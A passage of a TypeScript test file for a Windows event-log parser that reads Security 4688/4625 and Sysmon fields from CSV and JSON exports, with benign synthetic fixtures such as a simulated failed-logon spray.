    assert.deepEqual([texts(out, "CommandLine"), texts(out, "ParentProcessName"), texts(out, "TargetUserName")], [[null, null], [null, null], [null, null]]);
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.match(warnings[0], /^security\.csv, column Message: 2 Security 4688 message\(s\) have no "Process Command Line" line, so their CommandLine is null: .*Include command line in process creation events/);
  });

  it("an empty Process Command Line (auditing on, nothing logged) is an empty value, no warning", () => {
    const on = v0("0x100", "0x50").replace("\tCreator Process ID:\t0x50", "\tCreator Process ID:\t0x50\r\n\tProcess Command Line:\t");
    const warnings: string[] = [];
    const out = winEventFields(securityExport([on]), { warn: (m) => warnings.push(m) });
    assert.deepEqual(texts(out, "CommandLine"), [""]);
    assert.deepEqual(warnings, []);
  });
});

describe("winEventFields: a Sysmon value's own blanks", () => {
  it("a command line's leading spaces and tabs, and tabs inside, are kept: only the one space after the colon is Sysmon's", () => {
    const cmd = "  \tcmd.exe /c \"a\tb\"\t";
    const message = ["Process Create:", "RuleName: -", "ProcessId: 291", "Image: C:\\x.exe", `CommandLine: ${cmd}`, "CurrentDirectory: C:\\", "User: WS01\\alice"].join("\r\n");
    const out = winEventFields(sysmonExport([message]), { warn: () => {} });
    assert.deepEqual([first(out, "CommandLine"), first(out, "RuleName"), first(out, "ProcessId")], [cmd, "-", "291"]);
  });
});

describe("winEventFields: Get-WinEvent | ConvertTo-Json's Properties (the EventData values by position, in any language)", () => {
  // The EventData order of each template (learn.microsoft.com's XML samples): Properties[i] is the i-th.
  const ORDER: Record<number, string[]> = {
    4688: ["SubjectUserSid", "SubjectUserName", "SubjectDomainName", "SubjectLogonId", "NewProcessId", "NewProcessName", "TokenElevationType", "ProcessId", "CommandLine", "TargetUserSid", "TargetUserName", "TargetDomainName", "TargetLogonId", "ParentProcessName", "MandatoryLabel"],
    4625: ["SubjectUserSid", "SubjectUserName", "SubjectDomainName", "SubjectLogonId", "TargetUserSid", "TargetUserName", "TargetDomainName", "Status", "FailureReason", "SubStatus", "LogonType", "LogonProcessName", "AuthenticationPackageName", "WorkstationName", "TransmittedServices", "LmPackageName", "KeyLength", "ProcessId", "ProcessName", "IpAddress", "IpPort"],
  };
  const HEX = /LogonId$|ProcessId$|^Status$|^SubStatus$/;
  /** The JSON export of these events: the plain export's records, `Properties` from the docs export's EventData (hex ids as JSON numbers, as .NET's integers are). */
  function jsonExport(events: Event[], message?: Parameters<typeof plainExportCsv>[1]): string {
    const plain = read("plain.csv", plainExportCsv(events, message)).toRecords();
    const docs = read("docs.csv", eventDataCsv(events)).toRecords();
    return JSON.stringify(plain.map((r, i) => ({
      ...r,
      Properties: ORDER[events[i].id].map((name) => {
        const v = docs[i][name];
        return { Value: HEX.test(name) && typeof v === "string" && v.startsWith("0x") ? Number(v) : v === null ? null : String(v) };
      }),
    })), null, 4);
  }
  const procs = chain(3);
  const events = procs.map((proc) => ({ id: 4688 as const, proc }));

  it("German 4688 Messages: the fields from Properties, equal to the docs command's columns, and no not-English warning", () => {
    const warnings: string[] = [];
    const json = read("events.json", jsonExport(events, (e) => msg4688De((e as { proc: (typeof procs)[0] }).proc)));
    const out = winEventFields(json, { warn: (m) => warnings.push(m) });
    const docs = read("docs.csv", eventDataCsv(events));
    for (const f of ORDER[4688]) assert.deepEqual(texts(out, f), texts(docs, f), f);
    assert.deepEqual(texts(out, "NewProcessId"), ["0x1000", "0x1004", "0x1008"]);
    assert.deepEqual(warnings, []);
  });

  it("4625 without a Message (the provider's messages not installed): the failure read by position; English Messages read the same", () => {
    const spray = ["bob", "carol"].map((user) => ({ id: 4625 as const, logon: { user, type: 3, ip: "203.0.113.45" } }));
    const none = winEventFields(read("none.json", jsonExport(spray, () => "")), { warn: () => {} });
    const english = winEventFields(read("en.json", jsonExport(spray)), { warn: () => {} });
    for (const df of [none, english]) {
      assert.deepEqual([texts(df, "TargetUserName"), texts(df, "IpAddress"), texts(df, "Status"), texts(df, "LogonType")], [["bob", "carol"], Array(2).fill("203.0.113.45"), Array(2).fill("0xc000006d"), ["3", "3"]]);
    }
    assert.deepEqual(texts(none, "FailureReason"), ["%%2313", "%%2313"], "as EventData has it (a logon query writes the words)");
  });
});

describe("a plain export of both process layouts split by layout", () => {
  it("each part's row i is the frame's row rows[i], whatever the Id text (' 1', '0x1', '1.0')", () => {
    const S = "Microsoft-Windows-Sysmon";
    const W = "Microsoft-Windows-Security-Auditing";
    const ids = [" 1", "1", "4688", "0x1", "1.0", "4688", "1", "4688 "];
    const providers = [S, S, W, S, S, W, S, W];
    const df = pl.DataFrame({
      Message: ids.map((_, i) => `m${i}`),
      Id: ids,
      ProviderName: providers,
      MachineName: ids.map(() => "WS01"),
      TimeCreated: ids.map(() => "2026-01-01T00:00:00Z"),
      EventID: ids.map((id) => Number(id) || 0),
    });
    const parts = winEventLayoutParts(df);
    const rows = winEventLayoutRows(df);
    assert.equal(parts.length, 2);
    assert.equal(rows.length, 2);
    const messages = df.getColumn("Message").toArray();
    parts.forEach((part, k) => assert.deepEqual(part.getColumn("Message").toArray(), Array.from(rows[k], (i) => messages[i]), `part ${k}`));
  });
});
